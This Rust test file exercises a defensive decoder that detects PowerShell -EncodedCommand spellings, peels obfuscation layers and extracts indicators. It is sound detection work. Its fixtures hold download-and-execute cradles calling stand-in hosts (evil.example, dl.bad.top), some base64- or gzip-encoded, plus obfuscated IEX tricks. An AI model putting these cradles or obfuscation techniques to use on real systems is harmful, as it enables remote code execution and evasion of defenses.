//! Encoded PowerShell: every -EncodedCommand spelling, each peeled layer, IOCs, hostile input.
//! Payloads were built by hand with python3 (`base64`, `gzip`, `zlib`); expected texts are the
//! scripts that went into them.

use taskhunt_tasks::powershell::*;

/// `Get-Date` as base64 of UTF-16LE: `base64.b64encode('Get-Date'.encode('utf-16-le'))`.
const GET_DATE: &str = "RwBlAHQALQBEAGEAdABlAA==";

// ---------------------------------------------------------------- -EncodedCommand spellings

fn found(cmd: &str) -> (String, String) {
    let e = find_encoded_command(cmd).unwrap_or_else(|| panic!("no encoded command in {cmd:?}"));
    (e.flag, e.payload)
}

macro_rules! spelling {
    ($($name:ident: $flag:expr;)*) => {$(
        #[test]
        fn $name() {
            let cmd = format!("powershell.exe -NoProfile {} {GET_DATE}", $flag);
            assert_eq!(found(&cmd), ($flag.to_string(), GET_DATE.to_string()));
            let d = decode_command_line(&cmd).expect("decoded");
            assert_eq!(d.layers, vec![Layer { kind: LayerKind::EncodedCommand, text: "Get-Date".into() }]);
            assert!(d.warnings.is_empty(), "{:?}", d.warnings);
        }
    )*};
}

spelling! {
    prefix_1_e: "-e";
    prefix_2_en: "-EN";
    prefix_3_enc: "-eNc";
    prefix_4_enco: "-Enco";
    prefix_5_encod: "-encod";
    prefix_6_encode: "-ENCODE";
    prefix_7_encoded: "-encoded";
    prefix_8_encodedc: "-EncodedC";
    prefix_9_encodedco: "-encodedco";
    prefix_10_encodedcom: "-encodedcom";
    prefix_11_encodedcomm: "-encodedCOMM";
    prefix_12_encodedcomma: "-encodedcomma";
    prefix_13_encodedcomman: "-encodedcomman";
    prefix_14_encodedcommand: "-EncodedCommand";
    ec: "-ec";
    ec_upper: "-EC";
    introducer_slash: "/enc";
    introducer_slash_short: "/e";
    introducer_en_dash: "\u{2013}EncodedCommand";
    introducer_em_dash: "\u{2014}enc";
    introducer_horizontal_bar: "\u{2015}e";
}

#[test]
fn double_quoted_payload() {
    let cmd = format!("powershell -w hidden -enc \"{GET_DATE}\"");
    assert_eq!(found(&cmd), ("-enc".into(), GET_DATE.into()));
}

#[test]
fn single_quoted_payload() {
    let cmd = format!("pwsh -e '{GET_DATE}'");
    assert_eq!(found(&cmd), ("-e".into(), GET_DATE.into()));
}

#[test]
fn backslash_quoted_payload() {
    let cmd = format!("cmd /c \"powershell -ec \\\"{GET_DATE}\\\"\"");
    assert_eq!(found(&cmd), ("-ec".into(), GET_DATE.into()));
}

#[test]
fn payload_inside_cmd_quotes() {
    let cmd = format!("C:\\Windows\\System32\\cmd.exe /c \"powershell.exe -nop -enc {GET_DATE}\"");
    assert_eq!(found(&cmd), ("-enc".into(), GET_DATE.into()));
}

#[test]
fn quoted_payload_with_spaces_is_taken_whole() {
    let cmd = "powershell -enc \"RwBlAHQALQBE AGEAdABlAA==\"";
    assert_eq!(found(cmd).1, "RwBlAHQALQBE AGEAdABlAA==");
    assert_eq!(decode_command_line(cmd).expect("decoded").innermost(), "Get-Date");
}

#[test]
fn flag_right_after_a_quote() {
    let cmd = format!("\"C:\\ps\\powershell.exe\" \"-enc\" {GET_DATE}");
    assert_eq!(found(&cmd), ("-enc".into(), GET_DATE.into()));
}

#[test]
fn execution_policy_then_encoded() {
    let cmd = format!("powershell -ep bypass -ex bypass -ExecutionPolicy Bypass -e {GET_DATE}");
    assert_eq!(found(&cmd), ("-e".into(), GET_DATE.into()));
}

#[test]
fn renamed_binary_needs_a_base64_payload() {
    let cmd = format!("C:\\Users\\Public\\svch0st.exe -enc {GET_DATE}");
    assert_eq!(found(&cmd), ("-enc".into(), GET_DATE.into()));
    assert_eq!(find_encoded_command("findstr -e pattern file.txt"), None);
}

macro_rules! not_encoded {
    ($($name:ident: $cmd:expr;)*) => {$(
        #[test]
        fn $name() {
            assert_eq!(find_encoded_command($cmd), None, "{:?}", $cmd);
        }
    )*};
}

not_encoded! {
    negative_ex: "powershell.exe -ex bypass -File a.ps1";
    negative_ep: "powershell.exe -ep bypass -File a.ps1";
    negative_ea: "powershell.exe -ea RwBlAHQALQBEAGEAdABlAA==";
    negative_encodedarguments: "powershell.exe -encodedarguments RwBlAHQALQBEAGEAdABlAA==";
    negative_encodeda: "powershell.exe -EncodedA RwBlAHQALQBEAGEAdABlAA==";
    negative_executionpolicy: "powershell.exe -ExecutionPolicy Bypass";
    negative_too_long: "powershell.exe -encodedcommandx RwBlAHQALQBEAGEAdABlAA==";
    negative_no_payload: "powershell.exe -enc";
    negative_inside_word: "powershell.exe C:/tools/e RwBlAHQALQBEAGEAdABlAA==";
    negative_glued_payload: "powershell.exe -encRwBlAHQALQBEAGEAdABlAA==";
    negative_other_dash: "powershell.exe \u{2012}enc RwBlAHQALQBEAGEAdABlAA==";
    negative_plain: "powershell.exe -NoProfile -Command Get-Date";
}

// ---------------------------------------------------------------- decoding layers

/// `IEX (New-Object Net.WebClient).DownloadString("http://evil.example/a")`, UTF-16LE.
const CRADLE_U16: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAuAGUAeABhAG0AcABsAGUALwBhACIAKQA=";
/// The same, ASCII (the `SUVYI` variant).
const CRADLE_ASCII: &str = "SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCJodHRwOi8vZXZpbC5leGFtcGxlL2EiKQ==";
const CRADLE: &str = "IEX (New-Object Net.WebClient).DownloadString(\"http://evil.example/a\")";

#[test]
fn encoded_command_utf16() {
    let d = decode_command_line(&format!("powershell.exe -NoP -NonI -W Hidden -Enc {CRADLE_U16}")).expect("decoded");
    assert_eq!(d.kinds(), vec![LayerKind::EncodedCommand]);
    assert_eq!(d.innermost(), CRADLE);
    assert_eq!(d.iocs.urls, vec!["http://evil.example/a"]);
    assert_eq!(d.iocs.domains, vec!["evil.example"]);
    assert!(d.warnings.is_empty(), "{:?}", d.warnings);
}

#[test]
fn encoded_command_ascii_iex_variant() {
    let d = decode_command_line(&format!("powershell -e {CRADLE_ASCII}")).expect("decoded");
    assert_eq!(d.innermost(), CRADLE);
    assert_eq!(d.iocs.urls, vec!["http://evil.example/a"]);
}

/// gzip of `Write-Host 'gz'; Invoke-WebRequest -Uri https://dl.bad.top/p.ps1 -OutFile $env:TEMP\p.ps1`
/// inside the usual MemoryStream/GzipStream/StreamReader wrapper, all as an encoded command.
const GZ_OUTER_U16: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABJAE8ALgBTAHQAcgBlAGEAbQBSAGUAYQBkAGUAcgAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABJAE8ALgBDAG8AbQBwAHIAZQBzAHMAaQBvAG4ALgBHAHoAaQBwAFMAdAByAGUAYQBtACgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAASQBPAC4ATQBlAG0AbwByAHkAUwB0AHIAZQBhAG0AKAAsAFsAQwBvAG4AdgBlAHIAdABdADoAOgBGAHIAbwBtAEIAYQBzAGUANgA0AFMAdAByAGkAbgBnACgAJwBIADQAcwBJAEEAQQBBAEEAQQBBAEEAQwBBAHcAcwB2AHkAaQB4AEoAMQBmAFgASQBMAHkANQBSAFUARQArAHYAVQByAGQAVwA4AE0AdwByAHkAOAA5AE8AMQBRADEAUABUAFEAcABLAEwAUwB4AE4AQgBZAHIAcgBoAGgAWgBsAEsAbQBTAFUAbABCAFEAVQBXACsAbgByAHAAKwBUAG8ASgBTAFcAbQA2AEoAWABrAEYAKwBnAFgANgBCAFUAVQBHAHkAcgBvACsAcABlAFcAdQBHAFgAbQBwAEMAcQBvAHAATwBhAFYAVwBZAFcANAArAGcAYgBFAGcAQwBVAEEASABDAHEAMQBtAGwAawBBAEEAQQBBAD0AJwApACkAKQAsAFsASQBPAC4AQwBvAG0AcAByAGUAcwBzAGkAbwBuAC4AQwBvAG0AcAByAGUAcwBzAGkAbwBuAE0AbwBkAGUAXQA6ADoARABlAGMAbwBtAHAAcgBlAHMAcwApACkAKQAuAFIAZQBhAGQAVABvAEUAbgBkACgAKQA=";
const GZ_INNER_B64: &str = "H4sIAAAAAAACAwsvyixJ1fXILy5RUE+vUrdW8Mwry89O1Q1PTQpKLSxNBYrrhhZlKmSUlBQUW+nrp+ToJSWm6JXkF+gX6BUUGyro+peWuGXmpCqopOaVWYW4+gbEgCUAHCq1mlkAAAA=";
const GZ_INNER: &str = "Write-Host 'gz'; Invoke-WebRequest -Uri https://dl.bad.top/p.ps1 -OutFile $env:TEMP\\p.ps1";

#[test]
fn gzip_layer_inside_encoded_command() {
    let d = decode_command_line(&format!("powershell -nop -w hidden -encodedcommand {GZ_OUTER_U16}")).expect("decoded");
    assert_eq!(d.kinds(), vec![LayerKind::EncodedCommand, LayerKind::Gzip]);
    assert!(d.layers[0].text.contains(GZ_INNER_B64), "{}", d.layers[0].text);
    assert_eq!(d.innermost(), GZ_INNER);
    assert_eq!(d.iocs.urls, vec!["https://dl.bad.top/p.ps1"]);
    assert_eq!(d.iocs.domains, vec!["dl.bad.top"]);
    assert_eq!(d.iocs.paths, vec!["$env:TEMP\\p.ps1"]);
    assert!(d.warnings.is_empty(), "{:?}", d.warnings);
}

/// Raw deflate (`zlib.compressobj(9, zlib.DEFLATED, -15)`) of
/// `Start-Process C:\Users\Public\svc.exe -ArgumentList 10.20.30.40`.
const DEFLATE_B64: &str = "Cy5JLCrRDSjKT04tLlZwtooJLU4tKo4JKE3KyUyOKS5L1kutSFXQdSxKL81NzSvxySwuUTA00DMy0DM20DMxAAA=";

#[test]
fn deflate_layer() {
    let script = format!(
        "IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{DEFLATE_B64}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
    );
    let d = decode_script(&script);
    assert_eq!(d.kinds(), vec![LayerKind::Plain, LayerKind::Deflate]);
    assert_eq!(d.innermost(), "Start-Process C:\\Users\\Public\\svc.exe -ArgumentList 10.20.30.40");
    assert_eq!(d.iocs.paths, vec!["C:\\Users\\Public\\svc.exe"]);
    assert_eq!(d.iocs.ips, vec!["10.20.30.40"]);
}

#[test]
fn base64_of_utf16_text() {
    // base64.b64encode('Write-Host unicode'.encode('utf-16-le'))
    let d = decode_script(
        "IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('VwByAGkAdABlAC0ASABvAHMAdAAgAHUAbgBpAGMAbwBkAGUA')))",
    );
    assert_eq!(d.kinds(), vec![LayerKind::Plain, LayerKind::Base64]);
    assert_eq!(d.innermost(), "Write-Host unicode");
}

#[test]
fn base64_of_utf8_text_through_a_variable() {
    // base64.b64encode(b'Write-Host utf8')
    let d = decode_script("$b = 'V3JpdGUtSG9zdCB1dGY4'\nIEX ([Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String($b)))");
    assert_eq!(d.kinds(), vec![LayerKind::Plain, LayerKind::Base64]);
    assert_eq!(d.innermost(), "Write-Host utf8");
}

#[test]
fn base64_of_ascii_iex() {
    let d = decode_script(&format!("[Convert]::FromBase64String('{CRADLE_ASCII}')"));
    assert_eq!(d.innermost(), CRADLE);
}

#[test]
fn char_array_join() {
    // [ord(c) for c in "Write-Host 'hi'"]
    let d = decode_script("IEX ([char[]](87,114,105,116,101,45,72,111,115,116,32,39,104,105,39) -join '')");
    assert_eq!(d.kinds(), vec![LayerKind::Plain, LayerKind::CharArray, LayerKind::Iex]);
    assert_eq!(d.layers[1].text, "IEX 'Write-Host ''hi'''");
    assert_eq!(d.innermost(), "Write-Host 'hi'");
}

#[test]
fn char_array_hex_and_unary_join() {
    let d = decode_script("Write-Host (-join [char[]](0x68,0x69))");
    assert_eq!(d.layers[1], Layer { kind: LayerKind::CharArray, text: "Write-Host 'hi'".into() });
}

#[test]
fn char_sum_and_iex_by_call_operator() {
    let d = decode_script("& ([char]105+[char]101+[char]120) 'Write-Host hi'");
    assert_eq!(d.kinds(), vec![LayerKind::Plain, LayerKind::CharArray, LayerKind::Concat, LayerKind::Iex]);
    assert_eq!(d.layers[1].text, "& ('i'+'e'+'x') 'Write-Host hi'");
    assert_eq!(d.layers[2].text, "& 'iex' 'Write-Host hi'");
    assert_eq!(d.innermost(), "Write-Host hi");
}

#[test]
fn reverse_by_range() {
    // "Write-Host 'rev'"[::-1] with quotes doubled; 16 characters.
    let d = decode_script("IEX ('''ver'' tsoH-etirW'[-1..-16] -join '')");
    assert_eq!(d.kinds(), vec![LayerKind::Plain, LayerKind::Reverse, LayerKind::Iex]);
    assert_eq!(d.layers[1].text, "IEX 'Write-Host ''rev'''");
    assert_eq!(d.innermost(), "Write-Host 'rev'");
}

#[test]
fn reverse_unary_join_of_literal() {
    let d = decode_script("Write-Host (-join ('txet'[-1..-4]))");
    assert_eq!(d.layers[1], Layer { kind: LayerKind::Reverse, text: "Write-Host 'text'".into() });
}

#[test]
fn reverse_variable_by_length() {
    let d = decode_script("$r = 'ih tsoH-etirW'; IEX ($r[-1..-($r.Length)] -join '')");
    assert_eq!(d.kinds(), vec![LayerKind::Plain, LayerKind::Reverse, LayerKind::Iex]);
    assert_eq!(d.layers[1].text, "$r = 'ih tsoH-etirW'; IEX 'Write-Host hi'");
    assert_eq!(d.innermost(), "$r = 'ih tsoH-etirW'; Write-Host hi");
}

#[test]
fn reverse_with_array_reverse() {
    let d = decode_script("$a = 'ih tsoH-etirW'.ToCharArray(); [array]::Reverse($a); IEX (-join $a)");
    assert_eq!(d.kinds(), vec![LayerKind::Plain, LayerKind::Reverse, LayerKind::Iex]);
    assert_eq!(d.layers[1].text, "$a = 'ih tsoH-etirW'.ToCharArray(); $a = 'Write-Host hi'; IEX (-join $a)");
    assert!(d.innermost().ends_with("; Write-Host hi"), "{}", d.innermost());
}

#[test]
fn format_operator() {
    let d = decode_script("IEX (\"{2}{0}{1}\" -f 'ite-Ho','st hi','Wr')");
    assert_eq!(d.kinds(), vec![LayerKind::Plain, LayerKind::Format, LayerKind::Iex]);
    assert_eq!(d.layers[1].text, "IEX 'Write-Host hi'");
    assert_eq!(d.innermost(), "Write-Host hi");
}

#[test]
fn format_with_char_and_escaped_braces() {
    let d = decode_script("Start-Process (\"C:{0}Users{0}Public{0}a{{1}}.exe\" -f [char]92)");
    assert_eq!(d.kinds(), vec![LayerKind::Plain, LayerKind::CharArray, LayerKind::Format]);
    assert_eq!(d.innermost(), "Start-Process 'C:\\Users\\Public\\a{1}.exe'");
    assert_eq!(d.iocs.paths, vec!["C:\\Users\\Public\\a{1}.exe"]);
}

#[test]
fn format_out_of_range_is_left_alone() {
    let d = decode_script("Write-Host (\"{3}\" -f 'a')");
    assert_eq!(d.kinds(), vec![LayerKind::Plain]);
}

#[test]
fn concatenation() {
    let d = decode_script("IEX ('Wri'+'te-Ho' + \"st hi\")");
    assert_eq!(d.kinds(), vec![LayerKind::Plain, LayerKind::Concat, LayerKind::Iex]);
    assert_eq!(d.layers[1].text, "IEX 'Write-Host hi'");
    assert_eq!(d.innermost(), "Write-Host hi");
}

#[test]
fn concatenation_is_not_merged_into_an_index() {
    let d = decode_script("Write-Host ('ab'+'cd'[0])");
    assert_eq!(d.kinds(), vec![LayerKind::Plain]);
}

#[test]
fn backtick_escapes() {
    let d = decode_script("&(`N`e`w-Ob`je`ct Net.WebClient).DownloadString('http://x.example/b')");
    assert_eq!(
        d.layers[1],
        Layer { kind: LayerKind::Concat, text: "&(New-Object Net.WebClient).DownloadString('http://x.example/b')".into() }
    );
    assert_eq!(d.iocs.urls, vec!["http://x.example/b"]);
}

#[test]
fn backticks_inside_single_quotes_and_escapes_are_kept() {
    let d = decode_script("Write-Host 'a`b' `n `t");
    assert_eq!(d.kinds(), vec![LayerKind::Plain]);
}

#[test]
fn quotes_inside_strings_do_not_confuse_the_peelers() {
    // One literal holding `a'+'b`: nothing to join.
    let d = decode_script("Write-Host 'a''+''b'");
    assert_eq!(d.kinds(), vec![LayerKind::Plain]);
}

#[test]
fn iex_spellings() {
    let cases = [
        "Invoke-Expression -Command 'Write-Host a'",
        "iex('Write-Host a')",
        "'Write-Host a' | iex",
        "('Write-Host a') | Invoke-Expression",
        ".('iex') 'Write-Host a'",
        "& ('IEX') 'Write-Host a'",
        "$c = 'Write-Host a'; iex $c",
    ];
    for case in cases {
        let d = decode_script(case);
        assert_eq!(d.layers.last().map(|l| l.kind), Some(LayerKind::Iex), "{case}");
        assert!(d.innermost().ends_with("Write-Host a"), "{case} -> {:?}", d.innermost());
        assert!(!d.innermost().to_ascii_lowercase().contains("iex"), "{case} -> {:?}", d.innermost());
    }
}

#[test]
fn obfuscated_iex_names() {
    let cases = [
        "& ( $PSHome[4]+$PSHOME[30]+'x') ('Write-Host a')",
        ".( $ShellId[1]+$ShellId[13]+'x') ('Write-Host a')",
        "&( $env:ComSpec[4,15,25]-Join'') ('Write-Host a')",
        ".( $VerbosePreference.ToString()[1,3]+'X'-Join'') ('Write-Host a')",
        "& ( ([String]$VerbosePreference)[1,3]+'X'-Join'') ('Write-Host a')",
        ".( (gv '*mdr*').Name[3,11,2]-Join'') ('Write-Host a')",
    ];
    for case in cases {
        let d = decode_script(case);
        assert_eq!(d.kinds(), vec![LayerKind::Plain, LayerKind::Iex], "{case}");
        assert_eq!(d.innermost(), "Write-Host a", "{case}");
    }
}

#[test]
fn scriptblock_create() {
    let d = decode_script("& ([scriptblock]::Create('Write-Host a'))");
    assert_eq!(d.layers[1], Layer { kind: LayerKind::Iex, text: "& ({Write-Host a})".into() });
}

#[test]
fn iex_of_a_download_is_not_peeled() {
    let d = decode_script(CRADLE);
    assert_eq!(d.kinds(), vec![LayerKind::Plain]);
    assert_eq!(d.iocs.urls, vec!["http://evil.example/a"]);
}

#[test]
fn nested_encoded_command_in_a_script() {
    // base64.b64encode('Write-Host nested'.encode('utf-16-le'))
    let d = decode_script("Start-Process powershell.exe -ArgumentList '-enc VwByAGkAdABlAC0ASABvAHMAdAAgAG4AZQBzAHQAZQBkAA=='");
    assert_eq!(d.kinds(), vec![LayerKind::Plain, LayerKind::EncodedCommand]);
    assert_eq!(d.innermost(), "Write-Host nested");
}

#[test]
fn command_line_without_encoded_command() {
    let d = decode_command_line("powershell.exe -NoP -c \"IEX ('Wri'+'te-Host hi')\"").expect("obfuscation found");
    assert_eq!(d.kinds(), vec![LayerKind::Plain, LayerKind::Concat, LayerKind::Iex]);
    assert_eq!(d.layers[0].text, "IEX ('Wri'+'te-Host hi')");
    assert_eq!(d.innermost(), "Write-Host hi");
    let d = decode_command_line("cmd /c powershell -command \"IEX (\\\"Wri\\\"+\\\"te-Host hi\\\")\"").expect("obfuscation found");
    assert_eq!(d.innermost(), "Write-Host hi");
}

#[test]
fn plain_command_lines_give_none() {
    assert_eq!(decode_command_line("powershell.exe -NoProfile -Command Get-Date"), None);
    assert_eq!(decode_command_line("C:\\Windows\\system32\\svchost.exe -k netsvcs"), None);
    assert_eq!(decode_command_line(""), None);
}

#[test]
fn layers_serialize_with_snake_case_kinds() {
    let d = decode_script("IEX ('a'+'b')");
    let json = serde_json::to_string(&d).expect("serializes");
    assert!(json.contains("\"kind\":\"plain\"") && json.contains("\"kind\":\"concat\"") && json.contains("\"kind\":\"iex\""), "{json}");
}

// ---------------------------------------------------------------- IOCs

#[test]
fn iocs_of_every_kind_in_order_without_duplicates() {
    let text = r#"
$u = 'https://cdn.evil-domain.com/x/payload.bin?id=1';
Invoke-WebRequest http://192.168.1.10:8080/a.ps1 -OutFile "C:\Program Files\Common Files\upd.exe"
copy \\fileserver.corp.local\share$\tool.exe %TEMP%\tool.exe
New-Object System.Net.WebClient; [Convert]::FromBase64String($x); [Reflection.Assembly]::Load('mscorlib, Version=4.0.0.0')
nslookup c2.example.ru; ping fe80::1ff:fe23:4567:890a; $obj.Name; Expand-Archive payload.zip
https://cdn.evil-domain.com/x/payload.bin?id=1
"#;
    let iocs = extract_iocs(text);
    assert_eq!(iocs.urls, vec!["https://cdn.evil-domain.com/x/payload.bin?id=1", "http://192.168.1.10:8080/a.ps1"]);
    assert_eq!(iocs.domains, vec!["cdn.evil-domain.com", "fileserver.corp.local", "c2.example.ru"]);
    assert_eq!(iocs.ips, vec!["192.168.1.10", "fe80::1ff:fe23:4567:890a"]);
    assert_eq!(
        iocs.paths,
        vec!["C:\\Program Files\\Common Files\\upd.exe", "\\\\fileserver.corp.local\\share$\\tool.exe", "%TEMP%\\tool.exe"]
    );
}

#[test]
fn iocs_from_urls_with_ip_hosts_and_credentials() {
    let iocs = extract_iocs("iwr http://user:pw@Evil.Example.COM:443/x. ; iwr http://[2001:db8::5]/y");
    assert_eq!(iocs.urls, vec!["http://user:pw@Evil.Example.COM:443/x", "http://[2001:db8::5]/y"]);
    assert_eq!(iocs.domains, vec!["evil.example.com"]);
    assert_eq!(iocs.ips, vec!["2001:db8::5"]);
}

#[test]
fn no_iocs_in_ordinary_powershell() {
    let text = "[System.Text.Encoding]::UTF8.GetString($b); $wc = New-Object System.Net.WebClient; \
                [IO.Compression.CompressionMode]::Decompress; $PSVersionTable.PSVersion; 1.2.3.4.5; 10.0.17763.1; \
                Get-Content readme.md; $x.Name; HKLM:\\Software\\Run";
    assert_eq!(extract_iocs(text), Iocs::default());
}

#[test]
fn iocs_from_all_layers() {
    // The URL is only whole after the concatenation is peeled.
    let d = decode_script("IEX ((New-Object Net.WebClient).DownloadString('http://ev'+'il.example/p'+'.ps1'))");
    assert_eq!(d.iocs.urls, vec!["http://evil.example/p.ps1"]);
    assert_eq!(d.iocs.domains, vec!["evil.example"]);
}

// ---------------------------------------------------------------- hostile input

#[test]
fn garbage_base64_is_reported_with_its_offset() {
    // SQBFAFgA = "IEX" in UTF-16LE.
    let d = decode_command_line("powershell -enc SQBFAFgA!!!notbase64").expect("decoded");
    assert_eq!(d.innermost(), "IEX");
    assert_eq!(d.warnings, vec!["payload is not valid base64 at byte 8 ('!': not in the alphabet)"]);
}

#[test]
fn cut_payload_and_data_after_padding() {
    let d = decode_command_line("powershell -enc SQBFAFgAI").expect("decoded");
    assert_eq!(d.innermost(), "IEX");
    assert_eq!(d.warnings, vec!["payload ends with a dangling base64 character (cut short?)"]);
    let d = decode_command_line("powershell -enc SQBFAFgA==SQ").expect("decoded");
    assert_eq!(d.innermost(), "IEX");
    assert_eq!(d.warnings, vec!["payload is not valid base64 at byte 10 ('S': data after padding)"]);
}

#[test]
fn non_utf16_bytes() {
    // base64.b64encode(bytes([0x00, 0xD8, 0x41, 0x00, 0x42])): a lone surrogate, 'A', an odd byte.
    let d = decode_command_line("powershell -e ANhBAEI=").expect("decoded");
    assert_eq!(d.innermost(), "\u{FFFD}A");
    assert!(d.warnings.iter().any(|w| w.contains("odd number of bytes (5)")), "{:?}", d.warnings);
    assert!(d.warnings.iter().any(|w| w.contains("1 invalid UTF-16 code units")), "{:?}", d.warnings);
}

#[test]
fn binary_base64_is_a_warning_not_a_layer() {
    // A PE header: base64.b64encode(b'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00')
    let d = decode_script("[Byte[]]$pe = [Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AAA==')");
    assert_eq!(d.kinds(), vec![LayerKind::Plain]);
    assert_eq!(d.warnings, vec!["base64 literal decodes to 16 bytes of binary data (a PE image: starts with MZ)"]);
}

#[test]
fn truncated_gzip() {
    // The first half of gzip.compress(b'Write-Host truncated ' * 50, mtime=0).
    let d = decode_script("[Convert]::FromBase64String('H4sIAAAAAAACAwsvyixJ1fXILy5RKCkqzQ==')");
    assert!(d.warnings.iter().any(|w| w.starts_with("gzip stream")), "{:?}", d.warnings);
    if let Some(gz) = d.layers.get(1) {
        assert_eq!(gz.kind, LayerKind::Gzip);
        assert!("Write-Host truncated ".repeat(50).starts_with(&gz.text), "{:?}", gz.text);
    }
}

#[test]
fn gzip_bomb_is_bounded() {
    use base64::Engine as _;
    use std::io::Write as _;
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let block = vec![b' '; 1 << 20];
    for _ in 0..24 {
        enc.write_all(&block).expect("compress");
    }
    let gz = enc.finish().expect("compress");
    let payload = base64::engine::general_purpose::STANDARD.encode(&gz);
    let d = decode_script(&format!(
        "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('{payload}'),'Decompress'))).ReadToEnd()"
    ));
    assert_eq!(d.kinds(), vec![LayerKind::Plain, LayerKind::Gzip]);
    assert_eq!(d.innermost().len(), max_decoded_bytes());
    assert!(d.warnings.iter().any(|w| w.contains("decompresses to more than")), "{:?}", d.warnings);
}

#[test]
fn a_thousand_nested_layers_stop_at_the_bound() {
    let mut s = "'Write-Host deep'".to_string();
    for _ in 0..1000 {
        s = format!("(\"{{0}}\" -f {s})");
    }
    let d = decode_script(&format!("IEX {s}"));
    assert_eq!(d.layers.len(), max_layers());
    assert!(d.layers[1..].iter().all(|l| l.kind == LayerKind::Format));
    assert_eq!(d.warnings, vec![format!("stopped after {} layers (limit decoder_layers)", max_layers())]);
}

#[test]
fn nested_base64_stops_at_the_bound() {
    use base64::Engine as _;
    let mut s = "Write-Host 'bottom'".to_string();
    for _ in 0..24 {
        let b = base64::engine::general_purpose::STANDARD.encode(s.as_bytes());
        s = format!("IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b}')))");
    }
    let d = decode_script(&s);
    assert_eq!(d.layers.len(), max_layers());
    assert!(d.layers[1..].iter().all(|l| l.kind == LayerKind::Base64));
    assert_eq!(d.warnings, vec![format!("stopped after {} layers (limit decoder_layers)", max_layers())]);
}

#[test]
fn ten_megabyte_command_lines() {
    let start = std::time::Instant::now();
    let big = "A".repeat(10 << 20);
    let d = decode_command_line(&format!("powershell -enc {big}")).expect("decoded");
    assert_eq!(d.layers.len(), 1);
    assert_eq!(d.innermost().chars().count(), (10 << 20) * 3 / 4 / 2);
    assert_eq!(decode_command_line(&format!("powershell {}", "-e ".repeat(3 << 20))).map(|d| d.layers.len()), Some(1));
    let concat = format!("powershell -c \"IEX ({}'x')\"", "'a'+".repeat(2 << 20));
    let d = decode_command_line(&concat).expect("decoded");
    assert_eq!(d.layers.last().map(|l| l.text.len()), Some((2 << 20) + 1));
    let _ = decode_command_line(&format!("powershell -c \"{}\"", "(".repeat(10 << 20)));
    let _ = decode_command_line(&format!("powershell -c \"{}\"", "'".repeat(10 << 20)));
    let _ = extract_iocs(&"a.".repeat(5 << 20));
    assert!(start.elapsed().as_secs() < 120, "took {:?}", start.elapsed());
}

#[test]
fn format_and_variable_blow_ups_are_bounded() {
    let d = decode_script(&format!("Write-Host (\"{}\" -f '{}')", "{0}".repeat(100_000), "A".repeat(1000)));
    assert_eq!(d.kinds(), vec![LayerKind::Plain]);
    let d = decode_script(&format!("$v = '{}'\n{}", "A".repeat(1 << 20), "iex $v;".repeat(40)));
    assert!(d.layers.iter().all(|l| l.text.len() <= max_decoded_bytes()));
}

#[test]
fn malformed_scripts_do_not_panic() {
    let cases = [
        "IEX ('abc",
        "<# unclosed comment 'x'+'y'",
        "@'\nunclosed here-string",
        "\"$(((\"",
        "`",
        "'",
        "\u{E000}0\u{E001} + 'a'+'b' \u{E000}\u{E000}99999999999\u{E001}",
        "[char[]](99999999,1) -join ''",
        "[char]0x110000 + [char]55296",
        "('{0' -f 'a') + ('}' -f 'b') + ('{x}' -f 'c')",
        "'x'[-1..-99999999999999999999] -join ''",
        "[array]::Reverse($nope); iex $nope",
        "[Convert]::FromBase64String('')",
        "[Convert]::FromBase64String('=====')",
        "\u{2013}e \u{2014}",
        "powershell -enc \u{2015}",
        "powershell -e \"",
    ];
    for case in cases {
        let _ = decode_script(case);
        let _ = decode_command_line(case);
        let _ = find_encoded_command(case);
        let _ = extract_iocs(case);
    }
}

#[test]
fn here_strings_and_typographic_quotes() {
    let d = decode_script("iex @'\nWrite-Host here\n'@");
    assert_eq!(d.innermost(), "Write-Host here");
    let d = decode_script("IEX (\u{2018}Write-Host \u{2019}+\u{2018}curly\u{2019})");
    assert_eq!(d.innermost(), "Write-Host curly");
}
